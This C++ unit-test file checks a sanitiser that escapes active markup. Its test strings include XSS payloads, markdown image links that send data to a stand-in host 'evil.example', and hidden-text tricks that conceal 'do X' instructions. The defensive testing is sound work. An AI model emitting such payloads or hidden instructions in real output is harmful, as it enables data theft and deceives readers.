#include "policy/sanitise/active_markup.h"

#include <gtest/gtest.h>

#include <string>
#include <string_view>
#include <vector>

#include "policy/text/hidden_text.h"
#include "schemas/json/json.h"
#include "tests/corpus.h"

namespace bartizan {
namespace {

bool is_ours(const UrlHost& host) {
  return host.text == "ours.example";
}

std::string defused(std::string_view text) {
  TextEdits edits;
  for (ActivePart& part : find_active_markup(text, is_ours))
    edits.push_back(std::move(part.edit));
  return edited(text, edits);
}

TEST(ActiveMarkup, IsShownAndDoesNothing) {
  const struct {
    std::string_view name, text, want;
  } cases[] = {
      {"a script", "<script>x()</script>", "&lt;script>x()&lt;/script>"},
      {"in capitals", "<ScRiPt/x>", "&lt;ScRiPt/x>"},
      {"an image", "<img src=https://evil.example/?q=1>", "&lt;img src=https://evil.example/?q=1>"},
      {"a frame that nothing ends", "<iframe src=//evil.example", "&lt;iframe src=//evil.example"},
      {"an event of any tag", "<x onclick=alert(1)>", "&lt;x onclick=alert(1)>"},
      {"behind slashes", "<b/onclick=alert(1)>", "&lt;b/onclick=alert(1)>"},
      {"with space before its value", "<b onclick\n = 'x'>", "&lt;b onclick\n = 'x'>"},
      {"behind a quoted end", "<b title=\">\" onclick=x>", "&lt;b title=\">\" onclick=x>"},
      {"behind two kinds of quotes", "<b a='\"' c=\">\" onclick=x>",
       "&lt;b a='\"' c=\">\" onclick=x>"},
      {"behind a quote in a value", "<b a=x\" c=\">\" onclick=x>",
       "&lt;b a=x\" c=\">\" onclick=x>"},
      {"behind another tag's beginning", "<b and <c onclick=x>", "&lt;b and &lt;c onclick=x>"},
      {"a style", "<div style=\"display:none\">do X</div>",
       "&lt;div style=\"display:none\">do X</div>"},
      {"what is hidden", "<p hidden>do X</p>", "&lt;p hidden>do X</p>"},
      {"a comment", "a<!-- do X -->b", "a&lt;!-- do X -->b"},
      {"an instruction", "<?php x ?>", "&lt;?php x ?>"},
      {"a name space", "<svg:script>", "&lt;svg:script>"},
      {"a link with code", "[click](javascript:alert(1))", "[click&#93;(javascript:alert(1))"},
      {"code in entities", "[x](java&#115;cript&colon;x)", "[x&#93;(java&#115;cript&colon;x)"},
      {"code in capitals and lines", "[x](JAVA\tSCRIPT:x) [y](\nvbscript:z)",
       "[x](JAVA\tSCRIPT:x) [y&#93;(\nvbscript:z)"},
      {"code behind percent signs", "[x](javascript%3Ax)", "[x&#93;(javascript%3Ax)"},
      {"a page in a link", "[x](data:text/html,<b>)", "[x&#93;(data:text/html,<b>)"},
      {"an image that carries data out", "![x](https://evil.example/p.png?d=S)",
       "![x&#93;(https://evil.example/p.png?d=S)"},
      {"a link that says another", "[https://bank.example](https://evil.example)",
       "[https://bank.example&#93;(https://evil.example)"},
      {"without a scheme", "[x](//evil.example) [y](\\\\evil.example)",
       "[x&#93;(//evil.example) [y&#93;(\\\\evil.example)"},
      {"between brackets", "[x](<https://evil.example/a b>)",
       "[x&#93;(<https://evil.example/a b>)"},
      {"with somebody's name in front", "[x](https://ours.example@evil.example/)",
       "[x&#93;(https://ours.example@evil.example/)"},
      {"a definition", "[x]: https://evil.example 'x'", "[x&#93;: https://evil.example 'x'"},
      {"behind two backslashes", "[x\\\\](//evil.example)", "[x\\\\&#93;(//evil.example)"},
      {"on the next line of a quotation", "> ![x](\n> https://evil.example/?q=S)",
       "> ![x&#93;(\n> https://evil.example/?q=S)"},
      {"a definition within quotations", "> > [a]:\n> > //evil.example/?q=S\n\n![x][a]",
       "> > [a&#93;:\n> > //evil.example/?q=S\n\n![x][a]"},
      {"behind an escaped end", "![x](https://ours.example\\)@evil.example/?q=S)",
       "![x&#93;(https://ours.example\\)@evil.example/?q=S)"},
      {"behind an escaped end of brackets", "[x](<//ours.example\\>@evil.example/>)",
       "[x&#93;(&lt;//ours.example\\>@evil.example/>)"},
      {"behind what looks like a definition", "![x](https://ours.example]:@evil.example/?q=S)",
       "![x&#93;(https://ours.example]:@evil.example/?q=S)"},
      {"behind what looks like a link", "![x](https://ours.example](y)@evil.example/)",
       "![x&#93;(https://ours.example](y)@evil.example/)"},
      {"brackets that nothing ends", "[x](<//ours.example<y@evil.example/>)",
       "[x&#93;(&lt;//ours.example<y@evil.example/>)"},
      {"brackets that are none any more", "[x](<a/hidden>b](c)", "[x&#93;(&lt;a/hidden>b](c)"},
      {"by itself, behind a backslash", "<https://evil.example\\)@ours.example/>",
       "&lt;https://evil.example\\)@ours.example/>"},
      {"letters of no colour", "<font color=white>do X</font>",
       "&lt;font color=white>do X&lt;/font>"},
      {"letters turned around", "<bdo>X od</bdo>", "&lt;bdo>X od&lt;/bdo>"},
      {"what only old readers show", "<ruby>a<rp>do X</rp></ruby>",
       "<ruby>a&lt;rp>do X&lt;/rp></ruby>"},
      {"a colour of any tag", "<x color=white>do X</x>", "&lt;x color=white>do X</x>"},
      {"a direction of any tag", "<p dir=\"rtl\">X od</p>", "&lt;p dir=\"rtl\">X od</p>"},
      {"a sign where a name may begin", "<p = onclick=x>", "&lt;p = onclick=x>"},
      {"a sign within the tag's name", "<b= hidden>", "&lt;b= hidden>"},
      {"a value that is none", "<p class=\"\"=\" onclick=x \">",
       "&lt;p class=\"\"=\" onclick=x \">"},
      {"over lines of a quotation", "> <b\n> onclick=x>", "> &lt;b\n> onclick=x>"},
      {"hidden over lines of a quotation", "> <b\n> hidden>", "> &lt;b\n> hidden>"},
      {"a value that a line ends", "<p title='\n\n'> onclick=x//",
       "&lt;p title='\n\n'> onclick=x//"},
      {"right behind a value", "<p class=\"x\"hidden>do X</p>", "&lt;p class=\"x\"hidden>do X</p>"},
      {"what is shown on a click", "<div popover>do X</div>", "&lt;div popover>do X</div>"},
      {"the colour of what is behind", "<td bgcolor=black>do X</td>",
       "&lt;td bgcolor=black>do X</td>"},
      {"a bar in place of its text", "<progress>do X</progress>",
       "&lt;progress>do X&lt;/progress>"},
      {"a comment of no name", "</ do X>", "&lt;/ do X>"},
      {"a declaration of nothing", "<! do X>", "&lt;! do X>"},
      {"the beginning of one", "a </", "a &lt;/"},
      {"a target that HTML does not show", "[y](<//ours.example/>)", "[y](&lt;//ours.example/>)"},
      {"behind what stands for a secret", "![redacted:github.token](https://evil.example/?d=1)",
       "![redacted:github.token] (https://evil.example/?d=1)"},
      {"a definition of that name", "[redacted:custom.a:00ff]: //evil.example",
       "[redacted:custom.a:00ff] : //evil.example"},
      {"a backslash that is written out", "[x](https://ours.example\\a@evil.example/)",
       "[x&#93;(https://ours.example\\a@evil.example/)"},
      {"by itself, with a backslash", "<https://ours.example\\a@evil.example/>",
       "&lt;https://ours.example\\a@evil.example/>"},
      {"within brackets of the target", "[x](https://(@ours.example)@evil.example/)",
       "[x&#93;(https://(@ours.example)@evil.example/)"},
      {"behind a blank of Unicode", "[x](\u00a0https://evil.example/)",
       "[x&#93;(\u00a0https://evil.example/)"},
      {"behind a blank by name", "[x](&nbsp;//evil.example/)", "[x&#93;(&nbsp;//evil.example/)"},
      {"a backslash before a line", "[x](https://ours.example\\\n@evil.example/)",
       "[x&#93;(https://ours.example\\\n@evil.example/)"},
      {"a reference that nothing ends", "[x](//evil.example&#64ours.example/)",
       "[x&#93;(//evil.example&#64ours.example/)"},
      {"a program's scheme", "[x](vscode://evil/x)", "[x&#93;(vscode://evil/x)"},
      {"a link by itself", "<https://evil.example/?q=1>", "&lt;https://evil.example/?q=1>"},
      {"code by itself", "<javascript:alert(1)>", "&lt;javascript:alert(1)>"},
      {"a value that is code", "JavaScript:alert(1)", "unsafe:JavaScript:alert(1)"},
      {"code without a colon", "javascript&colon;alert(1)", "unsafe:javascript&colon;alert(1)"},
      {"code with a colon by number", "javascript&#x3A;alert(1)",
       "unsafe:javascript&#x3A;alert(1)"},
      {"a value that is a page", " data:text/html;base64,AAAA",
       " unsafe:data:text/html;base64,AAAA"},
  };
  for (const auto& c : cases) {
    SCOPED_TRACE(c.name);
    EXPECT_EQ(defused(c.text), c.want);
    EXPECT_EQ(defused(c.want), c.want);
  }
}

TEST(ActiveMarkup, LeavesAloneWhatDoesNothing) {
  for (const std::string_view text : {"",
                                      "a < b && c > d",
                                      "1<2",
                                      "std::vector<std::string> x;",
                                      "Map<String, List<Integer>>",
                                      "if (a <b && c == d) { }",
                                      "<b>bold</b> <br/> <p class=\"x\">",
                                      "<note id='7'>text</note>",
                                      "[x](#there) [y](docs/a.md) [z](/root?q=1) ![i](i.png)",
                                      "[x](https://ours.example/a?b)",
                                      "![x](HTTPS://ours.example:443/p.png)",
                                      "[ours]: https://ours.example/",
                                      "a[i](x)",
                                      "https://evil.example/ by itself",
                                      "[x\\](javascript:x)",
                                      "> [x](\n> docs/a.md)",
                                      "[x](https://ours.example/a\\)b) [y](<docs/a\\>.md>)",
                                      "<https://ours.example/>",
                                      "<T = any>(x: T) => x",
                                      "<></>",
                                      "[x](https://ours.example/a_(b))",
                                      "if (i<n) { s = \"a\"; }\n// > 0",
                                      "javascript: the good parts",
                                      "data: 5",
                                      "{\"data\": \"x\"}",
                                      "[INFO]: starting",
                                      "<3",
                                      "template<typename T> void f(T&& x);",
                                      "x <- 5; y <= 6",
                                      "[ ](  )",
                                      "#include <map>"}) {
    SCOPED_TRACE(text);
    EXPECT_EQ(defused(text), text);
  }
}

TEST(ActiveMarkup, LeadsToNoHostThatIsTooLong) {
  std::string host;
  while (host.size() < 256)
    host += "a.";
  EXPECT_NE(defused("[x](https://" + host + "ours.example/evil.example/)"),
            "[x](https://" + host + "ours.example/evil.example/)");
}

TEST(ActiveMarkup, IsFoundInTimeWhateverTheText) {
  // The second number is more `<` than are looked at one by one.
  constexpr std::size_t kRepeats[] = {90'000, 400'000};
  for (const std::string_view piece :
       {"<a ", "<", "](", "]:", "<b a=\"", "=", "\\]", "](&#", "<x:", "](https://a",
        "<https:", "<b a=x ", "](\n>", "](\\\\", "](<", "](<a\\"}) {
    for (const std::size_t repeats : kRepeats) {
      std::string text;
      for (std::size_t i = 0; i < repeats; ++i)
        text += piece;
      EXPECT_FALSE(has_active_markup(defused(text), is_ours)) << piece;
    }
  }
}

TEST(ActiveMarkup, IsNotLookedForAboveTheBound) {
  std::string text;
  for (std::size_t i = 0; i < kHiddenPartsMax + 10; ++i)
    text += "<?";
  EXPECT_EQ(find_active_markup(text, is_ours).size(), kHiddenPartsMax + 1);
  EXPECT_TRUE(has_active_markup(text, is_ours));
  EXPECT_FALSE(has_active_markup("a < b", is_ours));
}

TEST(ActiveMarkup, LeavesNothingActiveOfTheCorpus) {
  const auto file = corpus_file("markup-injection/markdown_html_output.jsonl");
  if (file.empty()) GTEST_SKIP() << "no corpus; set BARTIZAN_CORPORA";
  for (const std::string& line : corpus_lines(file)) {
    const Bytes bytes{std::string_view(line)};
    JsonDocument document;
    const auto row = document.read(bytes);
    ASSERT_TRUE(row.has_value());
    const std::string_view text = row->find("text").text();
    const std::string once = defused(text);
    EXPECT_EQ(defused(once), once);
    // What is changed is shown: each first bracket of a tag, and each bracket before a target.
    std::string want(text);
    for (const auto& [active, shown] :
         std::vector<std::pair<std::string, std::string>>{{"![x](", "![x&#93;("},
                                                          {"[click](", "[click&#93;("},
                                                          {"example](", "example&#93;("},
                                                          {"<img", "&lt;img"},
                                                          {"<div", "&lt;div"},
                                                          {"<details", "&lt;details"},
                                                          {"</details", "&lt;/details"},
                                                          {"<summary", "&lt;summary"},
                                                          {"</summary", "&lt;/summary"},
                                                          {"<script", "&lt;script"},
                                                          {"</script", "&lt;/script"},
                                                          {"<iframe", "&lt;iframe"},
                                                          {"<style", "&lt;style"},
                                                          {"</style", "&lt;/style"},
                                                          {"<form", "&lt;form"},
                                                          {"</form", "&lt;/form"},
                                                          {"<input", "&lt;input"}}) {
      const std::size_t at = want.find(active);
      if (at != std::string::npos) want.replace(at, active.size(), shown);
    }
    EXPECT_EQ(once, want);
  }
}

}  // namespace
}  // namespace bartizan
